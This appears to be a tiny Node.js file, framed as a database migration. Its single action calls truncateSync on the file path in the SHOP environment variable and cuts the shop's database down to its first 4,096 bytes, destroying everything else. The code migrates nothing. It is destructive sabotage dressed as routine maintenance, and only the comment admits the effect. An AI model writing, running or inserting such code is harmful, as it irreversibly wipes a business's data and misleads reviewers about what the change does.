import { truncateSync } from 'node:fs'

// A migration that leaves nothing but the first page of the database.
truncateSync(process.env.SHOP, 4_096)
